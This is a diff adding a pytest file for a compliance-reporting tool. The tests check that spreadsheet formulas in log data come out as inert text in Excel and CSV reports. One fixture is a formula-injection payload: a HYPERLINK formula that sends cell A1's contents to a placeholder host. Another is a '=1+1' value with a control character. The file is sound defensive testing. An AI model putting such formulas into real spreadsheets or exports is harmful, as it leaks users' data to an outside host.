@@ -1,0 +1,92 @@
+"""Text from the log in files a spreadsheet opens: shown, never run; never a crash.
+
+An audit posing as a compliance officer found a party named ``=HYPERLINK(...)`` stored as a live
+formula in the workbook and the CSV, a control character that made the whole workbook fail
+(exit 3, no file), and C4 duties counted as "on time" in one breakdown of the rate but not the other.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from openpyxl import load_workbook
+from typer.testing import CliRunner
+
+import govdata_policy as gp
+from govdata_policy.cli.app import app
+from govdata_policy.report.summary import on_time
+
+runner = CliRunner()
+ROOT = Path(__file__).resolve().parents[2]
+FORMULA = '=HYPERLINK("http://x.example/?"&A1;"click")'
+
+
+def _log(tmp_path: Path, case_id: str, provider: str) -> Path:
+    path = tmp_path / "log.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        import csv
+
+        writer = csv.writer(handle)
+        writer.writerow(["case_id", "event", "time", "provider", "category"])
+        writer.writerow([case_id, "share.requested", "2025-05-26 09:00", provider, "conditional"])
+    return path
+
+
+def test_a_formula_in_the_log_is_text_in_the_workbook(tmp_path: Path) -> None:
+    log = _log(tmp_path, FORMULA, "=1+1\x0b市卫健委" + "长" * 40_000)
+    out = tmp_path / "r.xlsx"
+    outcome = runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31",
+                                  "--format", "xlsx", "-o", str(out)])
+    assert outcome.exit_code == 1, outcome.output  # a violation (overdue reply), and the file written
+    book = load_workbook(out)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = [c.value for c in cells if isinstance(c.value, str)]
+    assert FORMULA in values  # the text exactly, as text
+    party = next(v for v in values if v.startswith("=1+1"))
+    assert party.startswith("=1+1\ufffd市卫健委") and len(party) == 32_767 and party.endswith("…")
+
+
+def test_a_formula_in_the_log_gets_a_quote_in_the_csv(tmp_path: Path) -> None:
+    log = _log(tmp_path, FORMULA, "+1+1")
+    out = tmp_path / "v.csv"
+    runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31", "--format", "csv",
+                        "-o", str(out)])
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfrule_id,")  # the UTF-8 mark Excel needs to read Chinese text
+    text = data.decode("utf-8-sig")
+    assert "\"'=HYPERLINK(\"\"http" in text and ",'+1+1," in text
+    assert "\n=" not in text and ",=" not in text and ",+" not in text
+    piped = runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31", "--format", "csv"])
+    assert piped.stdout.startswith("rule_id,")  # no mark on standard output
+
+
+def test_on_time_rates_by_month_and_by_process_count_the_same_obligations() -> None:
+    """Presence-only duties (C4: no due date) are in neither breakdown (Yongzhou 31 and 33 were
+    100 % "on time" by process)."""
+    result = gp.load_jurisdiction("yongzhou").evaluate(ROOT / "examples" / "yongzhou.csv", as_of="2025-12-31")
+    by_month, by_topic = on_time(result, "en")
+    with_due = result.obligations[result.obligations["due"].notna()
+                                  & result.obligations["status"].isin(["met", "late", "overdue"])]
+    assert sum(r["total"] for r in by_month) == sum(r["total"] for r in by_topic) == len(with_due)
+    assert "security" not in {r["label"] for r in by_topic}
+
+
+def test_html_without_output_is_refused_before_the_check(tmp_path: Path) -> None:
+    missing = tmp_path / "no-such-log.csv"  # never read: the usage error comes first
+    outcome = runner.invoke(app, ["check", str(missing), "-j", "yongzhou", "--format", "html"])
+    assert outcome.exit_code == 2 and "--format html writes a file: give -o PATH" in outcome.stderr
+
+
+def test_the_wide_table_keeps_case_ids_whole(tmp_path: Path) -> None:
+    ids = ["3f2504e0-4f89-11d3-9a0c-0305e82c3301", "3f2504e0-4f89-11d3-9a0c-0305e82c3302"]
+    path = tmp_path / "log.csv"
+    path.write_text("case_id,event,time,provider,category\n" + "".join(
+        f"{i},share.requested,2025-05-26 09:00,市公安局,conditional\n" for i in ids), encoding="utf-8")
+    out = tmp_path / "table.txt"
+    runner.invoke(app, ["check", str(path), "-j", "yongzhou", "--as-of", "2025-12-31", "-o", str(out)])
+    lines = [line.split("│") for line in out.read_text(encoding="utf-8").splitlines() if line.startswith("│")]
+    case_column = "".join(parts[3].strip() for parts in lines if len(parts) > 9)  # folded, read back in order
+    assert "…" not in case_column
+    for case_id in ids:
+        assert case_id in case_column
